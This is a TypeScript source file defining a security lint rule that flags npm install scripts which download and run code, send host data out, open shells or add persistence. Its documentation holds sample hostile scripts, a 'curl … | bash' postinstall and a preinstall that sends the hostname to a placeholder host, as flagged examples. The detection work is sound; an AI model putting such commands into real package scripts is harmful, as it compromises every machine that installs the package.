import type { Packument } from '../../know/registry/documents/packument.ts';
import { previousVersion } from '../../know/registry/releases/earlier-versions.ts';
import { describeSuspicion } from '../../know/scripts/describe-suspicion.ts';
import { scriptVerdict } from '../../know/scripts/script-verdict.ts';
import { suspiciousGyp } from '../../know/scripts/suspicious-gyp.ts';
import { type SuspiciousScript, suspiciousScript } from '../../know/scripts/suspicious-script.ts';
import { shownText } from '../../read/lockfile/model/shown-text.ts';
import type { CheckedFile } from '../../read/project/checked-file.ts';
import { removeProperty } from '../../read/text/json/json-edit.ts';
import { nameOf } from '../../read/text/paths/uri.ts';
import { installScripts } from '../changes/install-scripts.ts';
import { defineRule, type Found, type RuleContext } from '../check/rule.ts';
import { type SelectedVersion, selectedVersions } from '../check/selected-versions.ts';
import { pinFix } from '../check/version-fixes.ts';

/**
 * Published attacks mostly start in a lifecycle script, and many of their command lines do what no install needs. The
 * text alone is read. Programs that a script starts, downloads without running the result, and inline code by itself are
 * normal. Known false positives: a project that installs a tool with the `curl … | sh` of its vendor, which is the same
 * risk.
 */
interface Suspicious {
  /** A script of the manifest, a version of a dependency with its script, or binding.gyp. */
  readonly where:
    | { readonly type: 'own'; readonly script: string }
    | {
        readonly type: 'dependency';
        readonly script: string;
        readonly name: string;
        readonly version: string;
      }
    | { readonly type: 'gyp' };
  readonly suspicion: SuspiciousScript['suspicion'];
  readonly outline: string;
  /** An earlier version without such a script. */
  readonly older: string | null;
  readonly declared: string | null;
}

export const installScriptSuspicious = defineRule<Suspicious, Record<string, never>>({
  id: 'install-script-suspicious',
  category: 'scripts',
  preset: 'security',
  severity: 'error',
  facts: ['packument'],
  options: {},
  docs: {
    summary:
      'A script of an install that downloads and runs code, or does something else that no install needs.',
    why: `Lifecycle scripts run on every machine that installs the project, with the user's full rights. The rule reads
their text, and runs nothing. It reports a script that

- downloads code and runs it, as in \`curl … | bash\` or \`npx https://…\`,
- runs encoded code, or inline code that decodes or downloads what it runs,
- opens a shell to another machine,
- sends environment variables, credential files or the names of user and machine,
- contacts a host at which anybody collects data, or the metadata service of a cloud,
- runs code through \`rundll32\` or a similar tool of Windows,
- adds commands to \`crontab\`, a shell's profile or \`authorized_keys\`,
- hides a command behind blanks, or turns off certificate verification.

It reads the scripts of package.json that an install may run, including those that these call. In a comparison with a
base it also reads a changed \`binding.gyp\`. If registry access is allowed, it reads the scripts of the dependencies'
versions too, unless the project denies them. Files that a script starts are not read.`,
    bad: `-- package.json --
{
  "name": "shop",
  "scripts": {
    "postinstall": "curl -fsSL https://tools.example.test/setup.sh | bash"
                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-script-suspicious: "postinstall" downloads and runs remote code: curl … | bash. Remove it, or review exactly what it does.
  },
  "dependencies": {
    "native": "1.0.1"
              ^^^^^^^ install-script-suspicious: native 1.0.1 sends data of this machine over the network: curl … $(…), in its "preinstall" script. Deny the script, or use 1.0.0.
  }
}
`,
    good: `-- package.json --
{
  "name": "shop",
  "scripts": {
    "postinstall": "bash scripts/setup.sh"
  },
  "dependencies": {
    "native": "1.0.0"
  }
}
`,
    registry: {
      native: {
        versions: {
          '1.0.0': { scripts: { install: 'node-gyp rebuild' } },
          '1.0.1': { scripts: { preinstall: 'curl https://c.example.test/?h=$(hostname)' } },
        },
      },
    },
  },
  factsOfEach: 'also',
  check: {
    *manifest(manifest, context) {
      const run = installScripts(manifest);
      for (const [name, { value, span }] of manifest.scripts) {
        const script = run.has(name) ? suspiciousScript(value) : undefined;
        if (script === undefined) continue;
        yield found(span, { type: 'own', script: name }, script);
      }
      yield* inDependencies(manifest, context);
    },
    lockfile: inDependencies,
    pnpmWorkspace: inDependencies,
    yarnrc: inDependencies,
    *program(file) {
      const gyp = nameOf(file.uri) === 'binding.gyp' ? suspiciousGyp(file.text) : undefined;
      if (gyp !== undefined) yield found(gyp.span, { type: 'gyp' }, gyp.script);
    },
  },
  message({ data: { where, suspicion, outline, older } }) {
    const does = describeSuspicion({ suspicion, outline });
    switch (where.type) {
      case 'own':
        return `"${shownText(where.script, 60)}" ${does}. Remove it, or review exactly what it does.`;
      case 'gyp':
        return `A command in binding.gyp ${does}. It runs at install. Remove it, or review exactly what it does.`;
      case 'dependency': {
        const instead = older === null ? 'another version' : older;
        return `${where.name} ${where.version} ${does}, in its "${where.script}" script. Deny the script, or use ${instead}.`;
      }
    }
  },
  *fix({ data: { where, older, declared }, span }, { file, uri }) {
    if (where.type === 'own') {
      const edits = removeProperty(file.text, ['scripts', where.script]) ?? [];
      if (edits.length === 0) return;
      const title = `Delete the script ${JSON.stringify(where.script)}`;
      yield { title, applicability: 'unsafe', edits: edits.map((edit) => ({ uri, ...edit })) };
      return;
    }
    if (where.type === 'gyp' || older === null || declared === null) return;
    const fix = pinFix({ file, uri, span, name: where.name, declared }, older);
    if (fix !== undefined) yield fix;
  },
});

function* inDependencies(file: CheckedFile, context: RuleContext): Generator<Found<Suspicious>> {
  for (const selected of selectedVersions(file, context)) {
    const { target, version, packument, span, entry, related } = selected;
    const first = suspiciousIn(packument, version);
    if (first === undefined) continue;
    const verdict = scriptVerdict(context.project, target, entry);
    if (verdict.type === 'denied' || verdict.type === 'left-out') continue;
    const where = { type: 'dependency', script: first.name, name: target, version } as const;
    yield {
      ...found(span, where, first.script, {
        older: cleanVersion(selected) ?? null,
        declared: selected.isDecidedHere ? (selected.declared ?? null) : null,
      }),
      cause: 'install-script',
      package: selected.name,
      version,
      ...(target === selected.name ? {} : { target }),
      related,
    };
  }
}

function suspiciousIn(
  { versions }: Packument,
  version: string,
): { readonly name: string; readonly script: SuspiciousScript } | undefined {
  for (const [name, command] of versions.get(version)?.installScripts ?? []) {
    const script = suspiciousScript(command);
    if (script !== undefined) return { name, script };
  }
  return undefined;
}

function cleanVersion({ packument, version }: SelectedVersion): string | undefined {
  const previous = previousVersion(packument, version)?.version;
  return previous === undefined || suspiciousIn(packument, previous) !== undefined ? undefined : previous;
}

function found(
  span: Found<Suspicious>['span'],
  where: Suspicious['where'],
  { suspicion, outline }: SuspiciousScript,
  { older, declared }: Pick<Suspicious, 'older' | 'declared'> = { older: null, declared: null },
): Found<Suspicious> {
  const data = { where, suspicion, outline, older, declared };
  // It weakens the script's own downloads, and runs nothing by itself.
  return { span, data, ...(suspicion === 'tls-off' ? { severity: 'warning' } : {}) };
}
